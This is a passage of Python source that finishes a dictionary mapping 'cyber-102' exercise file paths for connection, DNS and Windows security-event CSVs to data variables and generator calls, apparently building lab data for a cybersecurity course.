        "cyber-102/files/conn.csv": conn,
        "cyber-102/files/dns.csv": dns,
        "cyber-102/files/security-events.csv": _windows_102(),
        "cyber-102/files/lab-conn.csv": lab_conn,
        "cyber-102/files/lab-dns.csv": lab_dns,
        "cyber-102/files/lab-security-events.csv": _windows_102(DPI_LAB),
    }
